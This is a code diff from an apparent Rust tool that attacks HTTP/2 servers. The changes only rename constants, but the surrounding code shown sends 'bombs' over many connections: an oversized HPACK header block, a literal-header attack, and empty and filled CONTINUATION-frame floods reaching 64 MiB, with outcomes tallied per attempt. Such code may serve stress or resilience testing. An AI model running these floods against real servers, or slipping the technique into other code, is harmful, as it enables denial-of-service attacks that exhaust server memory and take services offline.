@@ -22,7 +22,7 @@ const SIZE: usize = 1024 * 1024;
 const FLOOD: usize = 64 * 1024 * 1024;
 
 /// How long an attempt may take.
-const PATIENCE: Duration = Duration::from_secs(10);
+const TIMEOUT: Duration = Duration::from_secs(10);
 
 /// A kind of bomb.
 #[derive(Clone, Copy, Debug)]
@@ -59,7 +59,7 @@ pub(super) async fn throw(dialer: Rc<Dialer>, tally: Rc<Tally>, connections: usi
         spawn_local(async move {
             for bomb in BOMBS.into_iter().cycle().skip(first) {
                 tally.attempt();
-                match timeout(PATIENCE, explode(&dialer, bomb)).await {
+                match timeout(TIMEOUT, explode(&dialer, bomb)).await {
                     Ok(Ok(outcome)) => tally.count(outcome),
                     Ok(Err(_)) => tally.count(Outcome::Broken),
                     Err(_) => {} // it still waits for an answer
@@ -142,7 +142,7 @@ async fn deliver(
     match bomb {
         Bomb::Hpack => {
             frames::indexed_literal(&mut block, b"x-bomb", &[b'x'; 4000]);
-            block.resize(frames::LARGEST_FRAME, 0xbe);
+            block.resize(frames::MAX_FRAME, 0xbe);
             let flags = END_STREAM | END_HEADERS;
             frames::frame(&mut out, HEADERS, flags, 1, &block);
             return frames::send(&mut writer, &out).await;
@@ -154,7 +154,7 @@ async fn deliver(
         }
         _ => {}
     }
-    let mut pieces = block.chunks(frames::LARGEST_FRAME).peekable();
+    let mut pieces = block.chunks(frames::MAX_FRAME).peekable();
     let (mut kind, mut flags) = (HEADERS, END_STREAM);
     while let Some(piece) = pieces.next() {
         if pieces.peek().is_none() && matches!(bomb, Bomb::Literals) {
@@ -168,7 +168,7 @@ async fn deliver(
         Bomb::EmptyFlood => flood(&mut writer, &[]).await,
         Bomb::Flood => {
             let mut piece = Vec::new();
-            while piece.len() < frames::LARGEST_FRAME / 2 {
+            while piece.len() < frames::MAX_FRAME / 2 {
                 frames::literal(&mut piece, b"x-bomb", &[b'x'; 1000]);
             }
             flood(&mut writer, &piece).await
@@ -179,7 +179,7 @@ async fn deliver(
 
 async fn flood(writer: &mut (impl AsyncWrite + Unpin), piece: &[u8]) -> io::Result<()> {
     let mut out = Vec::new();
-    while out.len() < frames::LARGEST_FRAME {
+    while out.len() < frames::MAX_FRAME {
         frames::frame(&mut out, CONTINUATION, 0, 1, piece);
     }
     for _ in 0..FLOOD / out.len() {
